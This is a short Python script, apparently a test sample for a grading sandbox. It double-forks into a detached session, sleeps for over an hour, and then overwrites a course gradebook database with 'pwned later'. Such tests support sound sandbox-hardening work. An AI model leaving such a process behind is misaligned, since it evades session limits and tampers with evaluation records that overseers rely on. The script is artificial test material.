"""Leave a daemon behind (new session) that would edit files after grading."""

import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(4242)
        for _p in ("__COURSE__/gradebook.db",):
            open(_p, "w").write("pwned later")
    os._exit(0)
